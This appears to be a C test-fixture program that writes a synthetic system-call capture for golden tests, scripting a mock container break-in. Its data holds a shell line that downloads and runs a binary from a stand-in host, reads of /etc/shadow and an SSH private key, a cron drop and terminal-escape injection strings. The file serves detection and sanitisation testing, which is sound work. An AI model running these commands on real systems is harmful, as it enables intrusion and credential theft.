/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * Makes the capture that the golden tests read: a small incident, told through libscap's writer.
 *
 * On the host "web01" the container "db" runs already. The container "web" is started, serves one
 * request too many, and through it a shell: a program is fetched, made executable, run as root and
 * deleted. Somebody looks in from outside, then the container is killed. One loss on CPU 1.
 *
 * Time goes on by a millisecond an event unless said; names hold terminal escapes on purpose.
 */
#include "capture_events.h"

#define WEB   "3f4e2a1b9c0d11223344556677889900aabbccddeeff00112233445566778899"
#define DB    "d0d1d2d3d4d5d6d7d8d9dadbdcdddedfd0d1d2d3d4d5d6d7d8d9dadbdcdddedf"
#define HOSTG "cpuset=/\0memory=/system.slice/docker.service"
#define WEBG  "cpuset=/docker/" WEB "\0memory=/docker/" WEB
#define JOB   "0102030405060708090a0b0c0d0e0f101112131415161718191a1b1c1d1e1f20"
#define JOBG  "cpuset=/docker/" JOB "\0memory=/docker/" JOB
#define DBG   "cpuset=/docker/" DB "\0memory=/docker/" DB

/* ---- the cast ---- */

static const struct proc shim = PROC(100, 100, 1, "containerd-shim", "containerd-shim",
				     "/usr/bin/containerd-shim", L("-id\0" WEB), HOSTG, 0, 0, 11);
static const struct proc web = PROC(500, 1, 100, "nginx", "nginx", "/usr/sbin/nginx",
				    L("-g\0daemon off;"), WEBG, 0, SCAP_EXE_LOWER_LAYER, 21);
static const struct proc worker = PROC(501, 7, 500, "nginx", "nginx", "/usr/sbin/nginx",
				       L("-g\0daemon off;"), WEBG, 33, 0, 21);
static const struct proc shell = PROC(502, 8, 501, "sh", "sh", "/bin/sh",
				      L("-c\0cd /tmp; curl -O 198.51.100.7/x; ./x"), WEBG, 33, 0,
				      22);
static const struct proc cat = PROC(503, 9, 502, "cat", "cat", "/bin/cat", L("/etc/shadow"), WEBG,
				    33, 0, 23);
static const struct proc curl = PROC(504, 10, 502, "curl", "curl", "/usr/bin/curl",
				     L("-O\000198.51.100.7/x"), WEBG, 33, 0, 24);
static const struct proc chmod_x = PROC(505, 11, 502, "chmod", "chmod", "/bin/chmod",
					L("+x\0/tmp/x"), WEBG, 33, 0, 25);
static const struct proc dropped = PROC(506, 12, 502, "x", "./x", "/tmp/x",
					L("\033[31mred\033[0m\nline"), WEBG, 33,
					SCAP_EXE_UPPER_LAYER | SCAP_EXE_WRITABLE, 777);
static const struct proc runc = PROC(600, 600, 100, "runc", "runc", "/usr/bin/runc",
				     L("exec\0-it\0web\0sh"), HOSTG, 0, 0, 31);
static const struct proc entered = PROC(601, 20, 600, "sh", "sh", "/bin/sh", L("-i"), WEBG, 0, 0,
					22);
static const struct proc docker = PROC(700, 700, 1, "docker", "docker", "/usr/bin/docker",
				       L("kill\0web"), HOSTG, 0, 0, 41);

static const char web_json[] =
	"{\"container\":{\"id\":\"3f4e2a1b9c0d\",\"full_id\":\"" WEB "\",\"type\":0,"
	"\"name\":\"web\",\"image\":\"registry.example/web:1.2\",\"imagerepo\":"
	"\"registry.example/web\",\"imagetag\":\"1.2\",\"imageid\":\"\",\"imagedigest\":\"\","
	"\"privileged\":false,\"is_pod_sandbox\":false,\"lookup_state\":1,"
	"\"created_time\":1699999999,\"ip\":\"172.17.0.2\",\"labels\":{\"tier\":\"front\"}}}";
static const char db_json[] =
	"{\"container\":{\"id\":\"d0d1d2d3d4d5\",\"full_id\":\"" DB "\",\"type\":0,"
	"\"name\":\"db\",\"image\":\"postgres:15\",\"imagerepo\":\"postgres\",\"imagetag\":\"15\","
	"\"imageid\":\"\",\"imagedigest\":\"\",\"privileged\":false,\"is_pod_sandbox\":false,"
	"\"lookup_state\":1,\"created_time\":1699990000,\"ip\":\"172.17.0.3\",\"labels\":{}}}";

/* ---- the story ---- */

static void serve(void)
{
	forks(&web, &worker);
	EV(SYSCALL_SETUID_X, 501, N(0), N(33));
	on_cpu = 1;
	/* 203.0.113.9:40000 -> 172.17.0.2:80 */
	EV(SOCKET_ACCEPT4_6_X, 501, N(5), B("\2\313\0\161\11\100\234\254\21\0\2\120\0"), N(0), N(0),
	   N(128), N(0));
	EV(SYSCALL_READ_X, 501, N(44), B("POST /upload HTTP/1.0\r\n\r\ncmd=sh+-c\033[2J\007 more"),
	   N(5), N(4096));
}

static void break_in(void)
{
	forks(&worker, &shell);
	runs(&shell);
	forks(&shell, &cat);
	runs(&cat);
	EV(SYSCALL_OPENAT_2_E, 503, N(-100), S("/etc/shadow"), N(SCAP_O_RDONLY), N(0));
	EV(SYSCALL_OPENAT_2_X, 503, N(-13), N(-100), S("/etc/shadow"), N(SCAP_O_RDONLY), N(0), N(0),
	   N(0));
	ends(503, 1, 0);
	EV(SYSCALL_CHDIR_X, 502, N(0), S("/tmp"));
}

static void fetch(void)
{
	forks(&shell, &curl);
	runs(&curl);
	EV(SOCKET_SOCKET_X, 504, N(3), N(2), N(1), N(6));
	EV(SOCKET_CONNECT_E, 504, N(3), B("\2\306\63\144\7\120\0"));
	EV(SOCKET_CONNECT_X, 504, N(0), B("\2\254\21\0\2\110\210\306\63\144\7\120\0"), N(3),
	   B("\2\306\63\144\7\120\0"));
	EV(SOCKET_SENDTO_X, 504, N(40), B("GET /x HTTP/1.0\r\n\r\n"), N(3), N(40), EMPTY);
	loss = (struct scap_loss){ .buffer = 17, .from = clock_ns - 19 * MS, .to = clock_ns + MS };
	EV(SOCKET_RECVFROM_X, 504, N(5000), B("\177ELF\2\1\1"), EMPTY, N(3), N(65536));
	opens(504, 4, "/tmp/x", SCAP_O_WRONLY | SCAP_O_CREAT | SCAP_O_TRUNC, 777);
	EV(SYSCALL_WRITE_X, 504, N(5000), B("\177ELF\2\1\1"), N(4), N(5000));
	closes(504, 4);
	ends(504, 0, 0);
}

static void run_it(void)
{
	forks(&shell, &chmod_x);
	runs(&chmod_x);
	EV(SYSCALL_FCHMODAT_X, 505, N(0), N(-100), S("/tmp/x"), N(0755));
	ends(505, 0, 0);
	forks(&shell, &dropped);
	runs(&dropped);
	EV(SYSCALL_SETUID_X, 506, N(0), N(0));
	EV(SOCKET_SOCKET_X, 506, N(3), N(2), N(1), N(6));
	EV(SOCKET_CONNECT_X, 506, N(-111), EMPTY, N(3), B("\2\306\63\144\10\134\21"));
	closes(506, 3);
	opens(506, 3, "/root/.ssh/id_rsa", SCAP_O_RDONLY, 900);
	EV(SYSCALL_READ_X, 506, N(30), B("-----BEGIN OPENSSH PRIVATE KEY"), N(3), N(4096));
	closes(506, 3);
	opens(506, 3, "/var/lib/\033]0;owned\007evil\n", SCAP_O_WRONLY | SCAP_O_CREAT, 901);
	EV(SYSCALL_WRITE_X, 506, N(3), B("\033[H"), N(3), N(3));
	EV(SYSCALL_RENAME_X, 506, N(0), S("/var/lib/\033]0;owned\007evil\n"), S("/etc/cron.d/job"));
	closes(506, 3);
	EV(SYSCALL_UNLINK_2_X, 506, N(0), S("/tmp/x"));
	ends(506, 0, 0);
	ends(502, 0, 0);
}

static void end_it(void)
{
	on_cpu = 0;
	forks(&shim, &runc);
	runs(&runc);
	forks(&runc, &entered);
	runs(&entered);
	ends(601, 0, 0);
	ends(600, 0, 0);
	forks(&shim, &docker);
	runs(&docker);
	EV(SYSCALL_KILL_X, 700, N(0), N(500), N(9));
	ends(501, 0, 9);
	ends(500, 0, 9);
	ends(700, 0, 0);
}

static void database(void)
{
	/* 172.17.0.9:51000 -> 172.17.0.3:5432 */
	EV(SOCKET_ACCEPT4_6_X, 400, N(9), B("\2\254\21\0\11\70\307\254\21\0\3\70\25"), N(0), N(0),
	   N(128), N(0));
	EV(SOCKET_RECVFROM_X, 400, N(33), B("select 1"), EMPTY, N(9), N(8192));
	EV(SOCKET_SENDTO_X, 400, N(70), B("1"), N(9), N(70), EMPTY);
}

static void tell(void)
{
	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(db_json));
	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(web_json));
	EV(USER_ADDED_E, (uint64_t)-1, N(0), N(0), S("root"), S("/root"), S("/bin/sh"),
	   S("3f4e2a1b9c0d"));
	EV(USER_ADDED_E, (uint64_t)-1, N(33), N(33), S("www-data"), S("/var/www"), S("/bin/false"),
	   S("3f4e2a1b9c0d"));
	EV(GROUP_ADDED_E, (uint64_t)-1, N(33), S("www-data"), S("3f4e2a1b9c0d"));
	forks(&shim, &web);
	runs(&web);
	EV(SOCKET_SOCKET_X, 500, N(3), N(2), N(1), N(6));
	EV(SOCKET_BIND_X, 500, N(0), B("\2\0\0\0\0\120\0"), N(3));
	EV(SOCKET_LISTEN_X, 500, N(0), N(3), N(128));
	database();
	serve();
	break_in();
	fetch();
	run_it();
	end_it();
}

/* ---- the machine when it began ---- */

static struct scap_fd db_fds[] = {
	{ .fd = 3,
	  .ino = 71,
	  .type = SCAP_FD_IPV4_SERVSOCK,
	  .l4proto = SCAP_L4_TCP,
	  .sport = 5432,
	  .name = "" },
	{ .fd = 4,
	  .ino = 72,
	  .type = SCAP_FD_FILE_V2,
	  .open_flags = SCAP_O_RDWR,
	  .dev = 0x29,
	  .name = "/var/lib/db/wal" },
};

static struct scap_thread threads[] = {
	{ .tid = 1,
	  .pid = 1,
	  .comm = "systemd",
	  .exe = "/sbin/init",
	  .exepath = "/sbin/init",
	  .cgroups = { HOSTG, sizeof(HOSTG) } },
	{ .tid = 100,
	  .pid = 100,
	  .ptid = 1,
	  .comm = "containerd-shim",
	  .exe = "containerd-shim",
	  .exepath = "/usr/bin/containerd-shim",
	  .cgroups = { HOSTG, sizeof(HOSTG) },
	  .args = { "-id\0" WEB, sizeof("-id\0" WEB) } },
	{ .tid = 400,
	  .pid = 400,
	  .ptid = 100,
	  .comm = "postgres",
	  .exe = "postgres",
	  .exepath = "/usr/bin/postgres",
	  .cgroups = { DBG, sizeof(DBG) },
	  .uid = 70,
	  .gid = 70,
	  .args = { "-D\0/var/lib/db", sizeof("-D\0/var/lib/db") },
	  .fds = db_fds,
	  .n_fds = sizeof(db_fds) / sizeof(db_fds[0]) },
};

static struct scap_user users[] = {
	{ 0, 0, "root", "/root", "/bin/bash" },
	{ 33, 33, "www-data", "/var/www", "/usr/sbin/nologin" },
	{ 70, 70, "postgres", "/var/lib/db", "/bin/sh" },
};

static struct scap_group groups[] = { { 0, "root" }, { 33, "www-data" }, { 70, "postgres" } };

/* More than a million bytes, for what is done by size. */
static void serve_long(void)
{
	unsigned int i;

	for (i = 0; i < 15000; i++)
		EV(SYSCALL_READ_X, 501, N(44), B("GET /index.html HTTP/1.0\r\n\r\n"), N(3),
		   N(4096));
}

/* What a module of schema 4.5.1 tells more. */
static void call_newly(void)
{
	EV(SOCKET_SOCKET_X, 501, N(5), N(2), N(1), N(6), N(0x1000));
	EV(SYSCALL_FCNTL_X, 501, N(0), N(5), N(3), N(1));
	EV(SYSCALL_CLOSE_RANGE_X, 501, N(0), N(5), N(9), N(0));
	EV(SYSCALL_KEYCTL_X, 501, N(7), N(0));
}

/* The same containers, as if Kubernetes had made them. */
static void tell_pods(void)
{
	static const char web_pod[] =
		"{\"container\":{\"id\":\"3f4e2a1b9c0d\",\"full_id\":\"" WEB "\",\"type\":6,"
		"\"name\":\"web\",\"image\":\"registry.example/web:1.2\",\"labels\":{"
		"\"io.kubernetes.pod.name\":\"front-5d4f8c7b9-x2x4z\","
		"\"io.kubernetes.pod.namespace\":\"shop\"},\"pod_sandbox_labels\":{"
		"\"app\":\"front\",\"pod-template-hash\":\"5d4f8c7b9\"}}}";
	static const char db_pod[] =
		"{\"container\":{\"id\":\"d0d1d2d3d4d5\",\"full_id\":\"" DB "\",\"type\":6,"
		"\"name\":\"db\",\"image\":\"postgres:15\",\"labels\":{"
		"\"io.kubernetes.pod.name\":\"db-0\",\"io.kubernetes.pod.namespace\":"
		"\"base\"},\"pod_sandbox_labels\":{\"statefulset.kubernetes.io/pod-name\":"
		"\"db-0\"},\"kubernetes\":{\"svc.name\":\"db\",\"svc.label.tier\":\"back\","
		"\"svc.label.app\":\"db\",\"node.name\":\"n1\"}}}";

	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(web_pod));
	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(db_pod));
	EV(SYSCALL_CLOSE_X, 400, N(0), N(4));
}

/* runc enters the container's cgroup before it makes the first process from there. */
static void start_job(void)
{
	static const char json[] = "{\"container\":{\"id\":\"010203040506\",\"full_id\":\"" JOB
				   "\",\"type\":0,"
				   "\"name\":\"job\",\"image\":\"busybox:1\"}}";
	static const struct proc create = PROC(800, 800, 100, "runc", "runc", "/usr/bin/runc",
					       L("create\0" JOB), HOSTG, 0, 0, 31);
	static const struct proc init = PROC(801, 801, 800, "runc", "/usr/bin/runc",
					     "/usr/bin/runc", L("init"), JOBG, 0, 0, 31);
	static const struct proc first = PROC(802, 1, 800, "runc:[1:CHILD]", "/usr/bin/runc",
					      "/usr/bin/runc", L("init"), JOBG, 0, 0, 31);
	static const struct proc command = PROC(802, 1, 800, "job", "job", "/bin/job", L("-v"),
						JOBG, 0, SCAP_EXE_LOWER_LAYER, 51);

	EV(CONTAINER_JSON_2_E, (uint64_t)-1, S(json));
	forks(&shim, &create);
	runs(&create);
	forks(&create, &init);
	runs(&init);
	forks(&create, &first); /* runc clones it with CLONE_PARENT */
	ends(801, 0, 0);
	runs(&command);
	ends(800, 0, 0);
	ends(802, 3, 0);
}

/* One loss of each cause, on both CPUs: of one nobody knows when it began. */
static void lose(void)
{
	static const struct scap_loss losses[] = {
		{ .buffer = 1000,
		  .fault = 2,
		  .busy = 1,
		  .from = START + 10 * MS,
		  .to = START + 50 * MS },
		{ .fault = 1, .to = START + 60 * MS },
	};
	size_t i;

	for (i = 0; i < sizeof(losses) / sizeof(losses[0]); i++) {
		loss = losses[i];
		EV(SYSCALL_CLOSE_X, 500 + i, N(0), N(4));
	}
}

static void serve_longer(void)
{
	unsigned int i;

	for (i = 0; i < 4; i++)
		serve_long();
}

static void fill_threads(void)
{
	size_t i;

	for (i = 0; i < sizeof(threads) / sizeof(threads[0]); i++) {
		struct scap_thread *t = &threads[i];

		t->sid = t->pgid = t->vpgid = t->vtid = t->vpid = (int64_t)t->pid;
		t->loginuid = UINT32_MAX;
		t->cwd = t->root = "/";
		t->fdlimit = 1024;
		if (t->pid == 400)
			t->vtid = t->vpid = 1;
	}
}

/* A database that works a quarter of the time, beside a daemon: as today's recorders tell it. */
static void switch_threads(void)
{
	int i;

	for (i = 0; i < 30; i++) {
		EV(SCHEDSWITCH_6_E, 400, N(100), N(0), N(0), N(1000), N(100), N(0));
		clock_ns += 74 * MS;
		EV(SCHEDSWITCH_6_E, 100, N(400), N(0), N(0), N(1000), N(100), N(0));
		clock_ns += 24 * MS;
	}
}

/* The same as recorders of old did: ticks used so far, each second. */
static void sample_processes(void)
{
	int i;

	for (i = 1; i < 4; i++) {
		EV(PROCINFO_E, 400, N(10 * i), N(15 * i));
		EV(PROCINFO_E, 100, N(75 * i), N(0));
		clock_ns += 997 * MS;
	}
}

/* A process whose name would clear the screen and write elsewhere, if it could; and turns that wide
 * characters and halves of them take. */
static void show_off(void)
{
	static const char bad[] = "\033[2J\033]0;owned\007\033[9;1Hevil\r\b\xff\xc2\x9b"
				  "1m\xe6\x97\xa5\xe6\x9c\xac\xe2\x80\xae\xe2\x80\x8b\xe6";
	static char name[257];
	const struct proc p = {
		.pid = 800,
		.vpid = 800,
		.ptid = 100,
		.comm = "\033[2J\033[H",
		.exe = name,
		.exepath = name,
		.args = { name, sizeof(name), 0 },
		.cgroups = L(HOSTG),
		.ino = 801,
	};
	/* no command line, like a thread of the kernel */
	const struct proc bare = {
		.pid = 801,
		.vpid = 801,
		.ptid = 100,
		.comm = "kworker/0:1",
		.exe = "",
		.exepath = "",
		.args = EMPTY,
		.cgroups = L(HOSTG),
	};
	size_t i;

	for (i = 0; i < sizeof(name) - 1; i++)
		name[i] = bad[i % (sizeof(bad) - 1)];
	forks(&shim, &p);
	runs(&p);
	for (i = 0; i < 50; i++)
		EV(SYSCALL_READ_X, 800, N(1000), B("\033[2J\r\n\033]0;x\007"), N(0), N(4096));
	opens(800, 3, name, SCAP_O_RDONLY, 901);
	forks(&shim, &bare);
	runs(&bare);
}

int main(int argc, char **argv)
{
	static const struct {
		const char *name;
		void (*tell)(void);
	} more[] = { { "long", serve_long },
		     { "longer", serve_longer },
		     { "4.5.1", call_newly },
		     { "losses", lose },
		     { "switches", switch_threads },
		     { "samples", sample_processes },
		     { "pods", tell_pods },
		     { "hostile", show_off },
		     { "job", start_job } };
	struct scap_writer_options plain = { .compression = SCAP_PLAIN, .schema = SCHEMA(4, 5, 1) };
	struct scap_snapshot snap = {
		.machine = { .num_cpus = 2,
			     .memory_bytes = 2048ull << 20,
			     .boot_time = START - 3600000 * MS,
			     .hostname = "web01" },
		.threads = threads,
		.n_threads = sizeof(threads) / sizeof(threads[0]),
		.users = users,
		.n_users = sizeof(users) / sizeof(users[0]),
		.groups = groups,
		.n_groups = sizeof(groups) / sizeof(groups[0]),
	};
	struct scap_error err = { 0 };
	size_t i;

	if (argc != 2 && argc != 3)
		die("usage: make_capture FILE [long|longer|4.5.1|losses|switches|samples|pods|hostile|job|facts]");
	if (argc == 3 && strcmp(argv[2], "facts") == 0)
		snprintf(snap.machine.facts, sizeof(snap.machine.facts),
			 "vendor\tAmazon EC2\nproduct\tm5.\033[31mlarge\nuuid\tec2-1\ncloud\taws\n"
			 "instance\ti-0abc\nregion\teu-west-1\naccount\t123456789012\n");
	fill_threads();
	writer = scap_writer_open(argv[1], &plain, &snap, &err);
	if (!writer)
		die(err.msg);
	tell();
	for (i = 0; argc == 3 && i < sizeof(more) / sizeof(more[0]); i++)
		if (strcmp(argv[2], more[i].name) == 0)
			more[i].tell();
	if (scap_writer_close(writer, &err) < 0)
		die(err.msg);
	return 0;
}
